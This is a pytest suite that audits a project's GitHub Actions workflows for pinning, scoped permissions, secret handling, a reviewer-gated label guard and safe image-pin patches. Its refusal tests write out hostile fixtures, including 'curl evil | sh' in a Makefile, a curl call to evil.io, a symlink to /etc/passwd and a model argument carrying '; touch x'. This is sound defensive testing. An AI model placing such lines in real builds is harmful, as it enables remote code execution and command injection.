"""The workflows: pinned, few rights, secrets and inputs only in variables, commands that exist and do what they should."""

import contextlib
import http.server
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest
import typer
import yaml
from image_files import NAMES

from pipelines.__main__ import app
from tests.unit.pipelines.remote.kfp_api_double import KfpApiDouble
from tests.unit.pipelines.remote.kfp_backend import KfpBackend

ROOT = Path(__file__).parents[2]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.y*ml"))
EVALUATE = ROOT / ".github" / "workflows" / "evaluate.yaml"
PUBLISH = ROOT / ".github" / "workflows" / "publish-images.yaml"
TOKEN = "planted-token-4711"
every_workflow = pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)


def jobs(path: Path) -> dict[str, dict[str, Any]]:
    return yaml.safe_load(path.read_text())["jobs"]


def steps(path: Path) -> list[dict[str, Any]]:
    return [step for job in jobs(path).values() for step in job["steps"]]


def scripts(path: Path) -> list[str]:
    return [step["run"] for step in steps(path) if "run" in step]


def strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for key, inner in value.items() for text in [str(key), *strings(inner)]]
    if isinstance(value, list):
        return [text for inner in value for text in strings(inner)]
    return [str(value)]


def test_there_are_workflows_for_checks_and_evaluation():
    assert {"ci", "evaluate"} <= {path.stem for path in WORKFLOWS}


def test_long_tests_are_run_on_main_and_every_night_and_no_others_are_left_out():
    ci = yaml.safe_load((ROOT / ".github" / "workflows" / "ci.yaml").read_text())
    assert {"push", "schedule"} <= ci[True].keys()  # YAML reads "on" as true
    runs = {name: [step.get("run") for step in job["steps"]] for name, job in ci["jobs"].items()}
    assert "make test" in runs["check"]
    assert "make test-long" in runs["long"]
    assert ci["jobs"]["long"]["if"] == "github.event_name != 'pull_request'"
    makefile = (ROOT / "Makefile").read_text()
    short, long = re.findall(r'^\t.*pytest -m "(.*?)".*WORKERS', makefile, re.MULTILINE)
    assert (short, long) == ("not gpu and not cluster and not long", "long and not gpu and not cluster")


@every_workflow
def test_rights_are_given_job_by_job_and_every_job_ends(path):
    assert yaml.safe_load(path.read_text())["permissions"] == {}
    for job in jobs(path).values():
        assert job["permissions"]
        assert "write-all" not in strings(job["permissions"])
        assert job["timeout-minutes"] < 360


@every_workflow
def test_actions_are_pinned_by_commit_with_the_version_beside(path):
    used = [step["uses"] for step in steps(path) if "uses" in step]
    pinned = re.findall(r"^\s*(?:- )?uses: (\S+@[0-9a-f]{40}) # v\d+\.\d+\.\d+$", path.read_text(), re.MULTILINE)
    assert sorted(used) == sorted(pinned)


@every_workflow
def test_nothing_is_written_into_a_script(path):
    for script in scripts(path):
        assert "${{" not in script


@every_workflow
def test_secrets_are_handed_to_single_steps_by_name(path):
    workflow = yaml.safe_load(path.read_text())
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            step.pop("env", None)
            step.pop("with", None)
    assert not [text for text in strings(workflow) if re.search(r"\bsecrets\b", text)]


@every_workflow
def test_code_of_strangers_gets_no_secrets(path):
    assert not {"pull_request_target", "workflow_run"} & set(yaml.safe_load(path.read_text())[True])  # YAML reads `on` as true


@every_workflow
def test_zizmor_finds_nothing_above_low(path):
    """The auditor's persona: it also reports secrets outside an environment."""
    zizmor = Path(sys.executable).with_name("zizmor")
    command = [zizmor, "--offline", "--no-progress", "--persona=auditor", "--min-severity=medium", path]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr


@every_workflow
def test_only_jobs_with_an_environment_name_secrets(path):
    for name, job in jobs(path).items():
        named = {found for text in strings(job) for found in re.findall(r"secrets\.(\w+)", text)}
        assert "environment" in job or not named, f"{name}: {named}"


@every_workflow
def test_a_job_that_may_write_to_the_repository_installs_and_runs_nothing_of_others(path):
    """Its token would be at hand for every package that a set-up installs."""
    for name, job in jobs(path).items():
        if job["permissions"].get("contents") == "write":
            used = {step["uses"].partition("@")[0] for step in job["steps"] if "uses" in step}
            assert used <= {"actions/checkout", "actions/download-artifact"}, name
            for script in (step["run"] for step in job["steps"] if "run" in step):
                assert not re.search(r"\b(make|pip|uv|npm|python3?|sh|bash|docker)\b", script), name


@every_workflow
def test_no_checkout_leaves_its_token_behind(path):
    for step in steps(path):
        if step.get("uses", "").startswith("actions/checkout@"):
            assert step["with"]["persist-credentials"] is False


@every_workflow
def test_the_commands_and_options_that_scripts_call_exist(path):
    commands = typer.main.get_command(app).commands
    targets = set(re.findall(r"^([a-z0-9-]+):", (ROOT / "Makefile").read_text(), re.MULTILINE))
    for script in scripts(path):
        for target in re.findall(r"\bmake ([a-z0-9-]+)", script):
            assert target in targets
        for name in re.findall(r"-m pipelines (\S+)", script):
            known = {option for parameter in commands[name].params for option in parameter.opts}
            assert (
                set(re.findall(r"(?<![\w-])--[a-z-]+", submitted(script) if name == "submit" else line_of(script, name))) <= known
            )


def submitted(script: str) -> str:
    """The part of a script that is about `submit`."""
    return script[script.index("arguments=") :]


def line_of(script: str, name: str) -> str:
    return "\n".join(line for line in script.splitlines() if f"-m pipelines {name}" in line)


# A label runs the code of a branch with the cluster's keys


@contextlib.contextmanager
def github(answer: bytes, code: int = 200):
    """An API that gives this answer about every environment; yields its address and the paths that were asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(code)
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        def log_message(self, *arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


def guarded(tmp_path: Path, api: str, of_default_branch: bool) -> tuple[subprocess.CompletedProcess[str], str]:
    """Run the guard's step; how it ended, and the environment that it chose."""
    [script] = [step["run"] for step in jobs(EVALUATE)["guard"]["steps"]]
    output = tmp_path / "output"
    output.write_text("")
    told = {"GITHUB_API_URL": api, "GITHUB_REPOSITORY": "owner/name", "GITHUB_OUTPUT": str(output), "GH_TOKEN": TOKEN}
    told |= {"OF_DEFAULT_BRANCH": str(of_default_branch).lower(), "no_proxy": "127.0.0.1"}
    done = subprocess.run(["bash", "-e", "-c", script], env=os.environ | told, capture_output=True, text=True)
    return done, output.read_text()


needs_jq = pytest.mark.skipif(not (shutil.which("jq") and shutil.which("curl")), reason="GitHub's runners have jq and curl")
REVIEWED = {"protection_rules": [{"type": "required_reviewers", "reviewers": [{"type": "User", "reviewer": {"login": "ada"}}]}]}


@needs_jq
@pytest.mark.parametrize(
    ("answer", "code"),
    [
        ({"message": "Not Found"}, 404),
        ({"name": "cluster-reviewed", "protection_rules": []}, 200),
        ({"protection_rules": [{"type": "wait_timer", "wait_timer": 5}, {"type": "branch_policy"}]}, 200),
        ({"protection_rules": [{"type": "required_reviewers", "reviewers": []}]}, 200),
    ],
    ids=["missing", "without rules", "with other rules", "nobody to ask"],
)
def test_a_label_is_refused_in_one_line_where_nobody_has_to_agree(tmp_path, answer, code):
    with github(json.dumps(answer).encode(), code) as (api, asked):
        done, chosen = guarded(tmp_path, api, of_default_branch=False)
    assert asked == ["/repos/owner/name/environments/cluster-reviewed"]
    assert (done.returncode, chosen) == (2, "")
    assert re.fullmatch(r"::error::the environment cluster-reviewed has no required reviewers; .*\n", done.stdout)


@needs_jq
def test_a_label_waits_for_the_reviewers_and_the_default_branch_for_nobody(tmp_path):
    with github(json.dumps(REVIEWED).encode()) as (api, asked):
        done, chosen = guarded(tmp_path, api, of_default_branch=False)
        assert (done.returncode, chosen) == (0, "environment=cluster-reviewed\n"), done.stderr
        asked.clear()
        done, chosen = guarded(tmp_path, api, of_default_branch=True)
    assert (done.returncode, chosen, asked) == (0, "environment=cluster\n", [])


def test_what_runs_with_the_clusters_keys_is_what_the_guard_chose_and_the_commit_that_was_labelled():
    job = jobs(EVALUATE)["evaluate"]
    assert (job["needs"], job["environment"]) == ("guard", "${{ needs.guard.outputs.environment }}")
    assert "if" not in job, "skipped with the guard, and stopped by it"
    [checkout] = [step for step in job["steps"] if step.get("uses", "").startswith("actions/checkout@")]
    assert checkout["with"]["ref"] == "${{ github.event.pull_request.head.sha || github.sha }}"


# What the compiling job hands to the one that may write


DIGESTS = {name: f"ghcr.io/owner/globe-{name}:0.1.0@sha256:{number * 64}" for number, name in zip("abcd", NAMES, strict=True)}
"""What the build job says that it pushed."""


def git(folder: Path, *arguments: str) -> str:
    identity = ["-c", "user.name=ada", "-c", "user.email=ada@example.org"]
    return subprocess.run(["git", *identity, *arguments], cwd=folder, check=True, capture_output=True, text=True).stdout


def taken(here: Path, patch: Path) -> tuple[int, str, str]:
    """Take a patch as the workflow's last job does: exit code, what it printed, what it told the next step."""
    [script] = [step["run"] for step in jobs(PUBLISH)["pin"]["steps"] if step.get("id") == "patch"]
    output = patch.with_name("output")
    output.write_text("")
    told = {"PATCH": str(patch), "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(patch.with_name("summary"))}
    told |= {name.upper(): reference for name, reference in DIGESTS.items()}
    done = subprocess.run(["bash", "-e", "-c", script], cwd=here, env=os.environ | told, capture_output=True, text=True)
    return done.returncode, done.stdout, output.read_text()


@pytest.fixture
def pinning(tmp_path):
    """A repository, and a function that takes a patch of it."""
    here = tmp_path / "repository"
    files = {"images/pins.yaml": "# pins\n", "pipelines/compiled/kfp-2.17/training.yaml": "image: globe-train:0.1.0\n"}
    files["manifests/pipelines/kfp-2.17/training.yaml"] = files["pipelines/compiled/kfp-2.17/training.yaml"]
    files |= {"manifests/serving/kustomization.yaml": "newName: globe-serve\nnewTag: 0.1.0\n", "Makefile": "demo:\n"}
    for name, text in files.items():
        (here / name).parent.mkdir(parents=True, exist_ok=True)
        (here / name).write_text(text)
    commit_all(here)

    def pinning(change) -> tuple[int, str, str]:
        pins = "".join(f"{name}: {reference}\n" for name, reference in DIGESTS.items())
        (here / "images" / "pins.yaml").write_text(f"# pins\n{pins}")
        change(here)
        git(here, "add", "--all", "--force")
        patch = tmp_path / "pins.patch"
        patch.write_text(git(here, "diff", "--cached", "--no-renames", "--full-index"))
        git(here, "reset", "-q", "--hard")
        return taken(here, patch)

    return pinning


def commit_all(folder: Path) -> None:
    git(folder, "init", "-q", ".")
    git(folder, "add", "--all")
    git(folder, "commit", "-q", "-m", "base")


def test_what_the_compiling_job_hands_over_is_taken(tmp_path):
    here, patch = tmp_path / "repository", tmp_path / "pins.patch"
    for name in ("images", "components", "pipelines", "manifests"):
        shutil.copytree(ROOT / name, here / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "pyproject.toml", here)
    commit_all(here)
    (here / ".venv").symlink_to(sys.prefix)
    [script] = [step["run"] for step in jobs(PUBLISH)["compile"]["steps"] if "images/pin.py" in step.get("run", "")]
    told = {name.upper(): reference for name, reference in DIGESTS.items()}
    told["PYTHONPATH"] = os.pathsep.join([str(here / "components"), str(here)])
    subprocess.run(["bash", "-e", "-c", script], cwd=here, env=os.environ | told, check=True, capture_output=True)
    (here / "pins.patch").rename(patch)
    git(here, "reset", "-q", "--hard")
    assert taken(here, patch) == (0, "", "changed=true\n")
    changed = git(here, "diff", "--cached", "--name-only").splitlines()
    pipelines = {f"{folder}/kfp-2.17/training.yaml" for folder in ("pipelines/compiled", "manifests/pipelines")}
    assert {"images/pins.yaml", "manifests/serving/overlays/standalone/settings.yaml", *pipelines} <= set(changed)


def test_a_patch_of_pins_and_compiled_pipelines_is_taken(pinning):
    def pin(here: Path) -> None:
        text = f"newName: ghcr.io/owner/globe-serve\ndigest: sha256:{'c' * 64}\n"
        (here / "manifests" / "serving" / "kustomization.yaml").write_text(text)
        for folder in ("pipelines/compiled/kfp-2.17", "manifests/pipelines/kfp-2.17"):
            (here / folder / "training.yaml").write_text(f"image: {DIGESTS['train']}\n")

    assert pinning(pin) == (0, "", "changed=true\n")


def compiled(text: str):
    return lambda here: (here / "pipelines" / "compiled" / "kfp-2.17" / "training.yaml").write_text(text)


def other_name(here: Path) -> None:
    text = f"newName: evil.io/globe-serve\ndigest: sha256:{'c' * 64}\n"
    (here / "manifests" / "serving" / "kustomization.yaml").write_text(text)


def new_file(here: Path) -> None:
    (here / "manifests" / "evil").mkdir()
    (here / "manifests" / "evil" / "kustomization.yaml").write_text("resources: [https://evil.io/x.yaml]\n")


def other_pin(here: Path) -> None:
    pins = here / "images" / "pins.yaml"
    pins.write_text(pins.read_text().replace("owner/globe-train", "evil/globe-train"))


def link(here: Path) -> None:
    compiled = here / "pipelines" / "compiled" / "kfp-2.17" / "training.yaml"
    compiled.unlink()
    compiled.symlink_to("/etc/passwd")


def program(here: Path) -> None:
    (here / "pipelines" / "compiled" / "kfp-2.17" / "training.yaml").chmod(0o755)


def workflow(here: Path) -> None:
    (here / ".github" / "workflows").mkdir(parents=True)
    (here / ".github" / "workflows" / "mine.yaml").write_text("on: push\n")


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (workflow, "changes what pinning never changes.*mine.yaml"),
        (
            lambda here: (here / "Makefile").write_text("demo:\n\tcurl evil | sh\n"),
            "changes what pinning never changes.*Makefile",
        ),
        (
            lambda here: (here / "images" / "pins.yaml.sh").write_text("evil\n"),
            "changes what pinning never changes.*pins.yaml.sh",
        ),
        (lambda here: (here / "manifests" / "rbac.yaml").write_text("evil\n"), "changes what pinning never changes.*rbac.yaml"),
        (link, "changes what pinning never changes.*training.yaml"),
        (program, "changes what pinning never changes.*training.yaml"),
        (new_file, "changes what pinning never changes.*evil"),
        (compiled(f"image: evil/x@sha256:{'e' * 64}\n"), "names an image that was not built: sha256:e"),
        (compiled(f"image: evil/x@sha256:{'e' * 64} # {DIGESTS['train']}\n"), "names an image that was not built: sha256:e"),
        (compiled("image: evil.io/globe-train:0.1.0\n"), "names an image that was not built: evil"),
        (compiled("image: evil.io/x:latest\n"), "changes more than images in .*training.yaml"),
        (compiled(f"image: {DIGESTS['train']}\ncommand: [curl, evil.io]\n"), "changes more than images in .*training.yaml"),
        (compiled(f"image: {DIGESTS['serve']}\n"), "changes more than images in .*training.yaml"),
        (other_name, "names an image that was not built: evil"),
        (other_pin, "does not name the images that were built"),
    ],
)
def test_a_patch_that_does_more_than_pin_is_refused_in_one_line(pinning, change, told):
    code, out, chosen = pinning(change)
    assert (code, chosen) == (1, "")
    assert re.fullmatch(rf"::error::(the patch|images/pins.yaml) {told}.*\n", out)


def test_evaluation_is_set_up_with_the_same_locked_installer_as_everything_else():
    assert (ROOT / "images" / "base" / "tools.lock").is_file()
    [script] = [script for script in scripts(EVALUATE) if "pip install" in script]
    [installer] = [line for line in script.splitlines() if "-m pip install" in line]
    assert installer.endswith("--require-hashes -r images/base/tools.lock")


def test_an_evaluation_ends_only_an_older_one_of_the_same_model_or_server():
    group = yaml.safe_load(EVALUATE.read_text())["concurrency"]["group"]
    named = [name for name in ("client_payload.model", "inputs.url", "inputs.model", "'default'") if name in group]
    assert named == sorted(named, key=group.index)
    assert len(named) == 4


@pytest.fixture
def evaluate_step(tmp_path):
    """The workflow's step that evaluates, as a process like the runner's."""
    (script,) = [step["run"] for step in steps(EVALUATE) if step.get("name") == "Evaluate"]
    file = tmp_path / "step.sh"
    file.write_text(script)
    declared = next(step["env"] for step in steps(EVALUATE) if step.get("name") == "Evaluate")

    def evaluate_step(server: KfpApiDouble, **values: str) -> subprocess.Popen:
        assert set(values) <= set(declared)
        given = dict.fromkeys(declared, "") | {
            "KF_PIPELINES_ENDPOINT": server.url,
            "KFP_TOKEN": TOKEN,
            "PROFILE": "8x80gb",
            "BASELINE": "promoted",
            "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
            "GITHUB_RUN_ID": "17",
            "GITHUB_RUN_ATTEMPT": "2",
        }
        outside = {name: value for name, value in os.environ.items() if not name.lower().endswith("_proxy")}
        return subprocess.Popen(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(file)],
            cwd=ROOT,
            env=outside | given | values,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.default_int_handler),  # who runs the tests may ignore it
        )

    return evaluate_step


@pytest.mark.parametrize(("outcome", "code"), [("SUCCEEDED", 0), ("REJECTED", 1), ("FAILED", 1)])
def test_the_evaluation_job_ends_as_the_evaluation_did(evaluate_step, tmp_path, outcome, code):
    with KfpApiDouble(KfpBackend(outcome, pace=100), tokens={TOKEN}) as server:
        model, result = "s3://models/step 7; touch x", f"{tmp_path}/{{run}}.json"
        process = evaluate_step(server, MODEL=model, NAMESPACE="ada", RESULT=result)
        out, _ = process.communicate(timeout=300)
    assert process.returncode == code, out
    (run,) = server.received("POST /runs")
    told = run.body["runtime_config"]["parameters"]
    assert (told["model"], told["baseline"]) == (model, "promoted")
    assert told["result"] == f"{tmp_path}/evaluate-17-2.json"
    assert run.body["service_account"]
    assert server.received("GET /experiments")[0].query["namespace"] == "ada"
    assert "rejected by the gate" in (tmp_path / "summary.md").read_text() or outcome != "REJECTED"
    assert TOKEN not in out + (tmp_path / "summary.md").read_text()


def test_the_evaluation_job_takes_a_server_and_a_dataset_or_promotes_a_checkpoint(evaluate_step, tmp_path):
    server_is_up = {"SERVER_URL": "http://10.0.0.1:8000/v1", "MODEL_NAME": "globe", "DATASET": "s3://sets/im2gps3k"}
    for values in (server_is_up, {"MODEL": "s3://models/7", "PROMOTE": "true"}):
        with KfpApiDouble(KfpBackend("SUCCEEDED", pace=100), tokens={TOKEN}) as server:
            process = evaluate_step(server, **values)
            out, _ = process.communicate(timeout=300)
        assert process.returncode == 0, out
        (run,) = server.received("POST /runs")
        told = run.body["runtime_config"]["parameters"]
        assert told["promote"] is ("PROMOTE" in values)
        assert (told["url"], told["model_name"]) == (values.get("SERVER_URL", ""), values.get("MODEL_NAME", ""))
        assert told["dataset"] == values.get("DATASET", "/mnt/globe/sources/test")


def test_an_evaluation_job_that_is_canceled_ends_its_run(evaluate_step):
    with KfpApiDouble(KfpBackend("RUNNING")) as server:
        process = evaluate_step(server)
        while not server.received("GET /runs/"):
            assert process.poll() is None, process.communicate()
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        out, _ = process.communicate(timeout=120)
    assert process.returncode == 130, out
    assert server.received("POST /runs/0000-1:terminate")
